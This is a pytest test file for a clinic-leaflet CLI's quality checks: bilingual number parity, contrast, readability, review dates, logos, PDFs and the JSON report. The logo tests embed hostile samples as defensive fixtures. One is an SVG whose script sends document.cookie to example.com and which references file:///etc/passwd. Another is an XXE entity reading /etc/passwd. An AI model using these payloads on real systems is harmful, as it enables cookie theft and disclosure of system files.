"""`brochure check`, the quality gate: every check fails on a spoiled copy of an example clinic and
passes on the examples, through the installed CLI; the JSON report keeps its schema."""

from __future__ import annotations

import io
import json
import os
import shutil

import arabic_reshaper
import jsonschema
import pytest
from bidi import get_display
from PIL import Image

from tests.conftest import EXAMPLES, copy_clinic, run_cli


def spoilt(tmp_path, slug="al-noor", file="clinic.toml", old=None, new=None):
    """A copy of an example clinic at tmp_path/clinics/x, with `old` replaced by `new` in `file`."""
    folder = copy_clinic(tmp_path, slug, "x")
    if old is not None:
        path = folder / file
        text = path.read_text(encoding="utf-8")
        assert old in text, old
        path.write_text(text.replace(old, new), encoding="utf-8")
    return folder


def check(tmp_path, *args):
    """`brochure check --clinic x` run from tmp_path, as staff do: messages name clinics/x/..."""
    return run_cli("check", "--clinic", "x", "--clinics-dir", "clinics", "--out", "out", *args, cwd=tmp_path)


def findings(result, severity="error"):
    return [line for line in result.stdout.splitlines() if line.startswith(f"{severity}: ")]


@pytest.fixture(scope="module")
def examples(tmp_path_factory):
    """`brochure check --all` on the example clinics, once."""
    out = tmp_path_factory.mktemp("no-pdfs")
    return run_cli("check", "--all", "--clinics-dir", EXAMPLES, "--out", out)


def test_the_example_clinics_have_no_errors(examples):
    assert examples.returncode == 0, examples.stdout + examples.stderr
    assert findings(examples) == []
    assert examples.stdout.splitlines()[-1].startswith("3 clinics checked for office: 0 errors, ")
    assert "Traceback" not in examples.stderr


# --- config ------------------------------------------------------------------------------------

def test_config_mistakes_are_all_reported_as_errors(tmp_path):
    folder = spoilt(tmp_path, old='primary = "#0B5563"', new='primary = "blue"')
    toml = folder / "clinic.toml"
    toml.write_text(toml.read_text(encoding="utf-8").replace("[leaflet]", "[leaflet]\ncolour = 1"),
                    encoding="utf-8")
    result = check(tmp_path)
    assert result.returncode == 2
    assert findings(result) == [
        'error: clinics/x/clinic.toml: brand.primary: expected #RRGGBB, got "blue"',
        "error: clinics/x/clinic.toml: leaflet.colour: unknown key",
    ]
    assert result.stdout.splitlines()[-1] == "1 clinic checked for office: 2 errors, 0 warnings"


def test_check_writes_nothing_and_a_sound_clinic_exits_0(tmp_path):
    spoilt(tmp_path, "harbor-spine")
    result = check(tmp_path)
    assert result.returncode == 0, result.stdout
    assert findings(result) == []
    assert not (tmp_path / "out").exists()


# --- glyph coverage ----------------------------------------------------------------------------

def test_a_character_the_fonts_cannot_draw_is_an_error_naming_field_and_character(tmp_path):
    spoilt(tmp_path, "harbor-spine", old='"Monday to Friday, 8 am to 5 pm"',
           new='"Monday to Friday ☎ 8 am to 5 pm"')
    result = check(tmp_path)
    assert result.returncode == 2
    assert findings(result) == [
        "error: clinics/x/clinic.toml: contact.hours.en: the bundled fonts cannot draw '☎' "
        "(U+260E BLACK TELEPHONE); remove it or use another character"]


def test_characters_the_fonts_can_draw_pass(tmp_path):
    spoilt(tmp_path, "harbor-spine", old='"Monday to Friday, 8 am to 5 pm"',
           new='"Monday–Friday, 8 am – 5 pm · closed on holidays"')
    result = check(tmp_path)
    assert not [line for line in findings(result) if "cannot draw" in line]


# --- parity: both languages say the same ------------------------------------------------------

REVIEW = 'reviewed_by = "Patient-education team"\nreviewed_on = 2026-11-01\nnext_review = 2027-11-01\n'


def write_section(folder, en: dict, ar: dict, name="parking", review=REVIEW):
    """sections/NAME.toml in a clinic folder, from two dicts of TOML values (written with repr)."""
    def table(values):
        return "".join(f"{key} = {_toml(value)}\n" for key, value in values.items())
    (folder / "sections").mkdir(exist_ok=True)
    (folder / "sections" / f"{name}.toml").write_text(
        f'[section]\nid = "{name}"\n{review}[section.en]\n{table(en)}[section.ar]\n{table(ar)}',
        encoding="utf-8")


def _toml(value):
    if isinstance(value, list):
        return "[" + ", ".join(_toml(v) for v in value) + "]"
    return '"' + value.replace('"', '\\"') + '"'


def test_a_number_that_differs_between_the_languages_is_an_error(tmp_path):
    folder = spoilt(tmp_path)
    write_section(folder, {"heading": "Parking", "items": ["Arrive 15 minutes early."]},
                  {"heading": "المواقف", "items": ["احضر قبل ٢٠ دقيقة من موعدك."]})
    result = check(tmp_path)
    assert result.returncode == 2
    assert findings(result) == [
        'error: clinics/x/sections/parking.toml: section: "Parking": the languages give different '
        "numbers: 15 only in English; ٢٠ (20) only in Arabic; make both say the same (Arabic-Indic "
        "digits count as digits: ٥ is 5)"]


def test_opening_hours_that_differ_between_the_languages_are_an_error(tmp_path):
    spoilt(tmp_path, "harbor-spine", old="8 am to 5 pm", new="8 am to 6 pm")
    result = check(tmp_path)
    assert result.returncode == 2
    assert [line.split("; ")[0] for line in findings(result)] == [
        "error: clinics/x/clinic.toml: contact.hours: the languages give different numbers: 6 only "
        "in English"]
    assert "٥ (5) only in Arabic" in result.stdout


def test_an_address_number_in_one_language_only_is_a_warning(tmp_path):
    """An Arabic address may fairly leave out the postal code; a reviewer should still look."""
    spoilt(tmp_path, "harbor-spine", old="ميشيغان ٤٨١٢٤", new="ميشيغان")
    result = check(tmp_path)
    assert result.returncode == 0, result.stdout
    assert ("warning: clinics/x/clinic.toml: contact.address: the languages give different numbers: "
            "48124 only in English; make both say the same") in result.stdout


def test_a_section_with_only_a_heading_in_one_language_is_an_error(tmp_path):
    folder = spoilt(tmp_path)
    write_section(folder, {"heading": "Parking", "paragraphs": ["Park on level B2."]},
                  {"heading": "المواقف"})
    result = check(tmp_path)
    assert result.returncode == 2
    assert ('error: clinics/x/sections/parking.toml: section: "Parking": has text in English but only '
            "a heading in Arabic; translate the section into Arabic, or shorten both") in findings(result)


def test_a_missing_bullet_or_a_much_shorter_translation_is_a_warning(tmp_path):
    folder = spoilt(tmp_path)
    write_section(folder, {"heading": "Parking", "items": [
        "Park on level B2 of the hospital car park, beside the blue lifts.",
        "Keep your ticket: we stamp it at the front desk, so parking is free for patients."]},
        {"heading": "المواقف", "items": ["المواقف في الطابق ب٢."]})
    result = check(tmp_path)
    assert result.returncode == 0, result.stdout
    warnings = [line for line in findings(result, "warning") if "parking.toml" in line]
    assert warnings == [
        'warning: clinics/x/sections/parking.toml: section: "Parking": 2 bullet points in English, '
        "1 in Arabic; give every bullet point its translation",
        'warning: clinics/x/sections/parking.toml: section: "Parking": the Arabic is much shorter than '
        "the English (24 letters to 121); check that nothing was left out of the translation"]


def test_ranges_and_spelled_numbers_agree_across_languages(tmp_path):
    """5-6 inch and ٥-٦ بوصات, 2 to 5 mm and ٢ إلى ٥ مم, one inch and ١ بوصة: the same numbers."""
    folder = spoilt(tmp_path)
    write_section(folder,
                  {"heading": "Your wound", "paragraphs": [
                      "The cut is 2 to 5 mm, not 5-6 inch; a microscope needs about one inch."]},
                  {"heading": "جرحك", "paragraphs": [
                      "يبلغ الشق ٢ إلى ٥ مم وليس ٥-٦ بوصات؛ ويحتاج المجهر إلى ١ بوصة تقريبًا."]})
    result = check(tmp_path)
    assert result.returncode == 0, result.stdout
    assert not [line for line in result.stdout.splitlines() if "different numbers" in line]


def test_dates_and_dotted_codes_are_compared_part_by_part_not_as_decimals(tmp_path):
    """25.12.2026 is no decimal: a date in one language only is named, and nothing crashes."""
    folder = spoilt(tmp_path)
    write_section(folder,
                  {"heading": "Holidays", "paragraphs": ["We are closed on 25.12.2026 and in Suite 1.2.3."]},
                  {"heading": "العطل", "paragraphs": ["نغلق يوم ٢٥٫١٢٫٢٠٢٦ وفي الجناح ١٫٢٫٣."]})
    result = check(tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    assert not [line for line in result.stdout.splitlines() if "different numbers" in line]
    write_section(folder,
                  {"heading": "Holidays", "paragraphs": ["We are closed on 25.12.2026."]},
                  {"heading": "العطل", "paragraphs": ["نغلق يوم ٢٥٫١٢."]})
    result = check(tmp_path)
    assert result.returncode == 2, result.stdout + result.stderr
    assert any("2026 only in English" in line for line in findings(result)), result.stdout


# --- colour ------------------------------------------------------------------------------------

def test_a_brand_colour_white_text_cannot_be_read_on_is_an_error_with_a_darker_shade(tmp_path):
    spoilt(tmp_path, old='primary = "#0B5563"', new='primary = "#FFD000"')
    result = check(tmp_path)
    assert result.returncode == 2
    assert findings(result) == [
        "error: clinics/x/clinic.toml: brand.primary: white text on #FFD000 in the masthead has "
        "contrast 1.4:1, needs 4.5:1, and headings in it on white paper need 3:1; try #8F7400"]


def test_a_brand_colour_that_passes_in_colour_but_not_in_grey_is_a_warning(tmp_path):
    spoilt(tmp_path, old='primary = "#0B5563"', new='primary = "#A06098"')
    result = check(tmp_path)
    assert result.returncode == 0, result.stdout
    assert [line for line in findings(result, "warning") if "brand.primary" in line] == [
        "warning: clinics/x/clinic.toml: brand.primary: printed in grey, #A06098 becomes #7A7A7A: "
        "white text on it in the masthead has contrast 4.2:1, needs 4.5:1; try #9C5D95"]


@pytest.mark.parametrize("suggested", ["#8F7400", "#9C5D95"])
def test_the_suggested_shades_pass(tmp_path, suggested):
    spoilt(tmp_path, old='primary = "#0B5563"', new=f'primary = "{suggested}"')
    result = check(tmp_path)
    assert result.returncode == 0, result.stdout
    assert "brand.primary" not in result.stdout


# --- plain language ----------------------------------------------------------------------------

HARD = ("Postoperative mobilisation protocols necessitate individualised physiotherapeutic "
        "assessment, incorporating comprehensive evaluation of neurological function, wound "
        "integrity, analgesic requirements and the patient's anticipated functional trajectory "
        "following discharge from hospital.")


def test_hard_english_and_a_long_sentence_are_warnings_quoting_the_sentence(tmp_path):
    folder = spoilt(tmp_path)
    write_section(folder, {"heading": "After surgery", "paragraphs": [HARD]},
                  {"heading": "بعد الجراحة", "paragraphs": [
                      "تتطلب بروتوكولات الحركة بعد الجراحة تقييمًا فرديًا للعلاج الطبيعي يشمل تقييمًا "
                      "شاملًا لوظائف الأعصاب وسلامة الجرح والحاجة إلى المسكنات ومسار التعافي المتوقع "
                      "للمريض بعد الخروج من المستشفى."]}, name="after-surgery")
    result = check(tmp_path)
    assert result.returncode == 0, result.stdout
    assert [line for line in findings(result, "warning") if "after-surgery.toml" in line] == [
        'warning: clinics/x/sections/after-surgery.toml: section.en: "After surgery" reads at grade '
        "33.8 (Flesch-Kincaid), above the target of 8; use shorter sentences and everyday words",
        "warning: clinics/x/sections/after-surgery.toml: section.en.paragraphs[0]: a sentence of 27 "
        f'words (over 25): "{HARD}"; split it into shorter sentences']


def test_the_reviewed_content_is_reported_honestly_and_left_as_written(examples):
    """The MISS source text reads above grade 8: true warnings, with the wording kept."""
    warnings = [line for line in findings(examples, "warning") if line.startswith("warning: content/")]
    content = [line.split(": ")[2] for line in warnings]
    assert content == ["sections[0].en", "sections[1].en", "sections[2].en", "sections[3].en",
                       "sections[4].en", "sections[4].en.paragraphs[0]"]
    assert all("change it only through a clinical review" in line for line in warnings)


def test_a_plainly_written_clinic_section_passes(examples):
    assert "before-your-visit.toml" not in examples.stdout


def test_flesch_kincaid_grade_and_syllables_match_hand_counts():
    from brochure.checks import readability

    counted = {word: readability.syllables(word) for word in (
        "the", "are", "table", "surgery", "used", "minimally", "high-risk", "hospital", "incision")}
    assert counted == {"the": 1, "are": 1, "table": 2, "surgery": 3, "used": 1, "minimally": 4,
                       "high-risk": 2, "hospital": 3, "incision": 3}
    # 6 words, 6 syllables, 1 sentence: 0.39 * 6 + 11.8 * 1 - 15.59
    assert readability.grade(["The cat sat on the mat."]) == pytest.approx(-1.45)
    assert readability.sentences("It is 2.5 mm. See Dr. Ali, e.g. on Monday! \"Yes.\" Bring ID") == [
        "It is 2.5 mm.", "See Dr. Ali, e.g. on Monday!", '"Yes."', "Bring ID"]


# --- review dates --------------------------------------------------------------------------------

@pytest.mark.parametrize("edition, severity, code", [("office", "warning", 0), ("press", "error", 2),
                                                     ("screen", "error", 2)])
def test_a_section_without_a_review_record_stops_press_and_screen(tmp_path, edition, severity, code):
    folder = spoilt(tmp_path)
    write_section(folder, {"heading": "Parking", "items": ["Park on level B2."]},
                  {"heading": "المواقف", "items": ["المواقف في الطابق ب٢."]}, review="")
    result = check(tmp_path, "--for", edition)
    assert result.returncode == code, result.stdout
    stops = " (press and screen editions stop on this)" if edition == "office" else ""
    assert [line for line in findings(result, severity) if "parking.toml" in line] == [
        f'{severity}: clinics/x/sections/parking.toml: section: "Parking" has no reviewed_by, '
        f"reviewed_on or next_review{stops}; add who reviewed it and when under [section], e.g. "
        'reviewed_by = "Patient-education team", reviewed_on = 2026-11-10, next_review = 2027-11-10']


def test_lapsed_reviews_of_the_content_and_a_section_are_named_with_their_dates(tmp_path):
    spoilt(tmp_path)
    result = check(tmp_path, "--for", "press", "--as-of", "2027-11-15")
    assert result.returncode == 2
    assert [line.split("; ")[0] for line in findings(result)] == [
        'error: clinics/x/sections/before-your-visit.toml: section.next_review: "Before your visit" '
        "was due for review on 2027-11-10"]
    later = check(tmp_path, "--as-of", "2027-11-21")
    assert later.returncode == 0
    assert any(line.startswith("warning: ") and line.endswith(
        "meta.next_review: the MISS content was due for review on 2027-11-20 (press and screen "
        "editions stop on this); have it clinically reviewed, then raise meta.version and the "
        "review dates") for line in findings(later, "warning"))


def test_reviews_in_date_pass_for_press(tmp_path):
    spoilt(tmp_path)
    result = check(tmp_path, "--for", "press", "--as-of", "2027-11-10")
    assert result.returncode == 0, result.stdout


# --- logo ----------------------------------------------------------------------------------------

def logo_errors(tmp_path, name: str, data: bytes, severity="error"):
    """Check al-noor's copy with `data` as its logo file `name` (brand.logo pointing at it)."""
    folder = spoilt(tmp_path, old='logo = "logo.svg"', new=f'logo = "{name}"')
    (folder / name).write_bytes(data)
    result = check(tmp_path)
    return result, [line for line in findings(result, severity) if f"clinics/x/{name}" in line]


def png(size, noise=False) -> bytes:
    out = io.BytesIO()
    image = Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3)) if noise else \
        Image.new("RGB", size, "#0B5563")
    image.save(out, "PNG")
    return out.getvalue()


@pytest.mark.parametrize("name, data, message", [
    ("logo.svg", png((600, 450)), "is a PNG file named .svg; the leaflet would treat it as SVG; "
                                  "rename it with a .png extension (and brand.logo with it)"),
    ("logo.png", b"<html>Our logo</html>", "is not a PNG, JPEG or SVG file (it starts with "
                                           "b'<html>Ou'); export the logo again as PNG or SVG"),
])
def test_a_logo_is_judged_by_its_content_not_its_name(tmp_path, name, data, message):
    result, errors = logo_errors(tmp_path, name, data)
    assert result.returncode == 2
    assert errors == [f"error: clinics/x/{name}: {message}"]


HOSTILE_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="40" height="40" onload="alert(1)">
  <script>fetch("https://example.com/?" + document.cookie)</script>
  <style>@import "https://example.com/brand.css"; @import url("file:///etc/x.css");
         .a { fill: url(#grad) }</style>
  <linearGradient id="grad"><stop offset="0" stop-color="#000"/></linearGradient>
  <image xlink:href="file:///etc/passwd" width="10" height="10"/>
  <use href="#grad"/>
  <image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
  <rect width="40" height="40" style="fill: url('https://example.com/p.svg#x')"/>
</svg>"""


def test_an_svg_logo_with_scripts_or_outside_references_is_an_error(tmp_path):
    result, errors = logo_errors(tmp_path, "logo.svg", HOSTILE_SVG.encode())
    assert result.returncode == 2
    assert [line.removeprefix("error: clinics/x/logo.svg: ") for line in errors] == [
        "<svg onload=...> runs script when shown; remove the onload attribute",
        "contains a <script>; export the logo again without scripts",
        "<style> refers to https://example.com/brand.css, outside the logo; embed what it shows in "
        "the SVG, or export the logo as PNG",
        "<style> refers to file:///etc/x.css, outside the logo; embed what it shows in "
        "the SVG, or export the logo as PNG",
        "<image> refers to file:///etc/passwd, outside the logo; embed what it shows in the SVG, or "
        "export the logo as PNG",
        "<rect> style refers to https://example.com/p.svg#x, outside the logo; embed what it shows "
        "in the SVG, or export the logo as PNG"]


def test_an_svg_logo_with_a_doctype_is_an_error(tmp_path):
    svg = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
    result, errors = logo_errors(tmp_path, "logo.svg", svg)
    assert result.returncode == 2
    assert errors == ["error: clinics/x/logo.svg: declares a DOCTYPE or entities; export the SVG again "
                      "as plain SVG"]


def test_a_small_or_heavy_raster_logo_is_a_warning_with_the_pixels_it_needs(tmp_path):
    result, warnings = logo_errors(tmp_path, "logo.png", png((60, 45)), "warning")
    assert result.returncode == 0, result.stdout
    assert warnings == ["warning: clinics/x/logo.png: 60 × 45 pixels print at 96 dpi in the tri-fold "
                        "cover (up to 30 × 21 mm); print needs 300 dpi; use one of at least 331 × 249 "
                        "pixels, or an SVG"]
    _, warnings = logo_errors(tmp_path / "heavy", "logo.png", png((700, 700), noise=True), "warning")
    assert [line.split(",")[0] for line in warnings] == [
        "warning: clinics/x/logo.png: is 1.5 MB"]


def test_the_example_logos_pass_svg_png_and_jpeg(tmp_path, examples):
    assert "logo" not in examples.stdout  # al-noor's SVG, dar-al-shifa's 720 × 720 PNG
    out = io.BytesIO()
    Image.new("RGB", (800, 600), "#0B5563").save(out, "JPEG")
    result, found = logo_errors(tmp_path, "logo.jpg", out.getvalue(), "")
    assert result.returncode == 0 and found == []


# --- output: the PDFs ----------------------------------------------------------------------------

def test_pdfs_built_by_brochure_pass(built):
    out = built["al-noor"].parent.parent
    result = run_cli("check", "--all", "--clinics-dir", EXAMPLES, "--out", out)
    assert result.returncode == 0, result.stdout
    assert str(out) not in result.stdout


@pytest.mark.parametrize("content", [b"", b"%PDF-1.7\n1 0 obj <<", b"PK\x03\x04 a zip file"])
def test_a_damaged_pdf_in_the_output_folder_is_an_error_not_a_crash(tmp_path, content):
    spoilt(tmp_path)
    pdf = tmp_path / "out" / "x" / "x-miss-sheet-a4-ar-en-office.pdf"
    pdf.parent.mkdir(parents=True)
    pdf.write_bytes(content)
    result = check(tmp_path)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    [line] = [line for line in findings(result) if "x-miss-sheet" in line]
    assert line.startswith("error: out/x/x-miss-sheet-a4-ar-en-office.pdf: cannot be read as a PDF (")
    assert line.endswith("; delete it and build it again")


def test_a_pdf_with_pre_shaped_arabic_system_fonts_and_the_wrong_pages_fails(tmp_path):
    """A PDF in the output folder made some other way: every output check has something to say."""
    from weasyprint import HTML

    spoilt(tmp_path)
    shaped = get_display(arabic_reshaper.reshape("جراحة العمود الفقري طفيفة التوغل"))
    # The snowman is in no bundled font: which font a process falls back to for presentation forms
    # depends on what it loaded before (Amiri has them), but nothing bundled draws U+2603.
    page = f'<p lang="ar" dir="rtl">{shaped} \u2603</p>'
    html = (f"<html><head><style>@page {{ size: A5 }} p {{ break-after: page }}</style></head>"
            f"<body>{page * 3}</body></html>")
    pdf = tmp_path / "out" / "x" / "x-miss-sheet-a4-ar-en-office.pdf"
    pdf.parent.mkdir(parents=True)
    # made with WeasyPrint's own font configuration, the machine's fonts (brochure's sees fonts/ only)
    pdf.write_bytes(HTML(string=html).write_pdf())
    result = check(tmp_path)
    assert result.returncode == 2
    errors = [line.removeprefix(f"error: {pdf.relative_to(tmp_path)}: ") for line in findings(result)]
    assert any(line.startswith("uses the system font ") for line in errors), errors
    assert [line for line in errors if not line.startswith("uses the system font ")] == [
        "the text layer holds 84 pre-shaped Arabic letters (presentation forms): search, copy and "
        "screen readers get the wrong characters; pass Arabic unshaped, then build it again with this "
        "brochure",
        "has 3 pages; a leaflet is one sheet, front and back; build it again with this brochure",
        "page 1: is 148.0 × 210.0 mm, not A4 (210 × 297 mm); build it again with this brochure",
        "page 2: is 148.0 × 210.0 mm, not A4 (210 × 297 mm); build it again with this brochure",
        "page 3: is 148.0 × 210.0 mm, not A4 (210 × 297 mm); build it again with this brochure"]


def test_a_pdf_older_than_its_clinic_is_a_warning(tmp_path, built):
    spoilt(tmp_path)
    pdf = tmp_path / "out" / "x" / "x-miss-sheet-a4-ar-en-office.pdf"
    pdf.parent.mkdir(parents=True)
    shutil.copy(built["al-noor"], pdf)
    os.utime(pdf, (0, 0))
    result = check(tmp_path)
    assert result.returncode == 0, result.stdout
    stale = [line for line in findings(result, "warning") if "out/x/" in line]
    assert len(stale) == 1 and stale[0].startswith(
        "warning: out/x/x-miss-sheet-a4-ar-en-office.pdf: was built before clinics/x/clinic.toml, ")


def test_render_checks_a_fresh_leaflet(tmp_path):
    spoilt(tmp_path, "harbor-spine")
    result = check(tmp_path, "--render")
    assert result.returncode == 0, result.stdout
    assert "rendered" not in result.stdout
    assert not (tmp_path / "out").exists()


def test_the_screen_edition_is_rendered_and_its_pdfs_pass(tmp_path):
    spoilt(tmp_path, "harbor-spine")
    built = build(tmp_path, "--for", "screen")
    assert built.returncode == 0, built.stderr
    result = check(tmp_path, "--for", "screen", "--render")
    assert result.returncode == 0, result.stdout
    assert "out/x/" not in result.stdout and "rendered" not in result.stdout


def test_render_reports_text_that_overflows_its_column(tmp_path):
    spoilt(tmp_path, "harbor-spine", old='"2100 Michigan Avenue, Dearborn, MI 48124, USA"',
           new='"' + "Building" * 20 + ' 2100 Michigan Avenue, Dearborn, MI 48124, USA"')
    result = check(tmp_path, "--render")
    assert result.returncode == 2
    assert any(line.startswith("error: clinics/x/clinic.toml: text overflows: ") and "BuildingBuilding"
               in line for line in findings(result)), result.stdout


def test_render_waits_until_the_errors_are_fixed(tmp_path):
    spoilt(tmp_path, old='primary = "#0B5563"', new='primary = "#FFD000"')
    result = check(tmp_path, "--render")
    assert result.returncode == 2
    assert ("warning: clinics/x/clinic.toml: not rendered because of the errors above; fix them, then "
            "check again") in findings(result, "warning")


# --- build runs the error-level checks first --------------------------------------------------------

def build(tmp_path, *args):
    return run_cli("build", "--clinic", "x", "--clinics-dir", "clinics", "--out", "out", *args, cwd=tmp_path)


def test_build_refuses_an_error_level_finding_naming_it(tmp_path):
    spoilt(tmp_path, old='primary = "#0B5563"', new='primary = "#FFD000"')
    result = build(tmp_path)
    assert result.returncode == 2
    assert ("error: clinics/x/clinic.toml: brand.primary: white text on #FFD000 in the masthead has "
            "contrast 1.4:1, needs 4.5:1") in result.stderr
    assert not (tmp_path / "out").exists()


def test_build_refuses_numbers_that_differ_between_the_languages(tmp_path):
    spoilt(tmp_path, "harbor-spine", old="8 am to 5 pm", new="8 am to 6 pm")
    result = build(tmp_path)
    assert result.returncode == 2
    assert ("error: clinics/x/clinic.toml: contact.hours: the languages give different numbers"
            in result.stderr)
    assert not (tmp_path / "out").exists()


def test_build_goes_ahead_on_warnings_and_press_stops_on_a_missing_review(tmp_path):
    folder = spoilt(tmp_path)
    write_section(folder, {"heading": "Parking", "items": ["Park on level B2."]},
                  {"heading": "المواقف", "items": ["المواقف في الطابق ب٢."]}, review="")
    office = build(tmp_path)
    assert office.returncode == 0, office.stderr
    assert "warning" not in office.stderr  # warnings are for `brochure check` to report
    press = build(tmp_path, "--for", "press")
    assert press.returncode == 2
    assert 'clinics/x/sections/parking.toml: section: "Parking" has no reviewed_by' in press.stderr


# --- placeholders ------------------------------------------------------------------------------

def test_a_scaffold_left_as_written_warns_on_office_drafts_and_stops_press(tmp_path):
    assert run_cli("new-clinic", "x", "--clinics-dir", "clinics", cwd=tmp_path).returncode == 0
    office = check(tmp_path)
    assert office.returncode == 0, office.stdout
    fields = [line.split(": ")[2] for line in findings(office, "warning") if "clinics/x/" in line]
    assert fields == ["name.en", "name.ar", "contact.phone", "contact.email", "contact.website",
                      "contact.address.en", "contact.address.ar"]
    press = check(tmp_path, "--for", "press")
    assert press.returncode == 2
    assert ("error: clinics/x/clinic.toml: contact.website: still holds the example value from "
            "`brochure new-clinic`; replace it with the clinic's own") in findings(press)
    build = run_cli("build", "--clinic", "x", "--clinics-dir", "clinics", "--out", "out", "--for",
                    "press", cwd=tmp_path)
    assert build.returncode == 2 and "contact.phone: still holds the example value" in build.stderr


def test_a_filled_in_scaffold_has_no_placeholder_finding(tmp_path):
    clinic = spoilt(tmp_path)  # an example clinic: every value its own
    result = check(tmp_path, "--for", "press")
    assert "placeholder" not in result.stdout and "example value" not in result.stdout, clinic


# --- the JSON report ---------------------------------------------------------------------------

FINDING = {
    "type": "object",
    "required": ["severity", "check", "file", "field", "message", "hint"],
    "additionalProperties": False,
    "properties": {
        "severity": {"enum": ["error", "warning"]},
        "check": {"enum": ["config", "parity", "glyphs", "colour", "plain-language", "review", "logo",
                           "placeholder", "output"]},
        "file": {"type": "string", "minLength": 1},
        "field": {"type": "string"},
        "message": {"type": "string", "minLength": 1},
        "hint": {"type": "string"},
    },
}
COUNT = {"type": "integer", "minimum": 0}
REPORT = {
    "type": "object",
    "required": ["version", "edition", "as_of", "clinics", "summary"],
    "additionalProperties": False,
    "properties": {
        "version": {"const": 1},
        "edition": {"enum": ["office", "press", "screen"]},
        "as_of": {"type": "string", "pattern": r"^\d{4}-\d{2}-\d{2}$"},
        "clinics": {"type": "array", "items": {
            "type": "object",
            "required": ["slug", "errors", "warnings", "findings"],
            "additionalProperties": False,
            "properties": {"slug": {"type": "string"}, "errors": COUNT, "warnings": COUNT,
                           "findings": {"type": "array", "items": FINDING}},
        }},
        "summary": {
            "type": "object",
            "required": ["clinics", "errors", "warnings", "passed"],
            "additionalProperties": False,
            "properties": {"clinics": COUNT, "errors": COUNT, "warnings": COUNT,
                           "passed": {"type": "boolean"}},
        },
    },
}


def test_json_report_of_the_examples_follows_the_schema(tmp_path):
    result = run_cli("check", "--all", "--json", "--clinics-dir", EXAMPLES, "--out", tmp_path,
                     "--for", "press", "--as-of", "2027-01-31")
    assert result.returncode == 0, result.stdout
    document = json.loads(result.stdout)
    jsonschema.validate(document, REPORT)
    assert [c["slug"] for c in document["clinics"]] == ["al-noor", "dar-al-shifa", "harbor-spine"]
    assert document["edition"] == "press" and document["as_of"] == "2027-01-31"
    assert document["summary"]["passed"] is True


def test_json_report_with_errors_follows_the_schema_and_exits_2(tmp_path):
    spoilt(tmp_path, old='primary = "#0B5563"', new='primary = "blue"')
    result = check(tmp_path, "--json")
    assert result.returncode == 2
    document = json.loads(result.stdout)
    jsonschema.validate(document, REPORT)
    clinic = document["clinics"][0]
    assert clinic["errors"] == 1 and document["summary"] == {
        "clinics": 1, "errors": 1, "warnings": clinic["warnings"], "passed": False}
    assert {"severity": "error", "check": "config", "file": "clinics/x/clinic.toml",
            "field": "brand.primary", "message": 'expected #RRGGBB, got "blue"', "hint": ""} \
        in clinic["findings"]


@pytest.mark.parametrize("args, message", [
    ([], "say which clinic"),
    (["--clinic", "al-noor", "--all"], "not both"),
    (["--clinic", "no-such-clinic"], "no clinic called 'no-such-clinic'"),
    (["--all", "--for", "billboard"], "billboard"),
    (["--all", "--as-of", "next week"], "next week"),
])
def test_usage_mistakes_exit_2_without_a_traceback(args, message):
    result = run_cli("check", *args, "--clinics-dir", EXAMPLES)
    assert result.returncode == 2
    assert message in result.stderr
    assert "Traceback" not in result.stderr


def test_check_has_help():
    result = run_cli("check", "--help")
    assert result.returncode == 0
    assert "--for [office|press|screen]" in result.stdout and "--json" in result.stdout
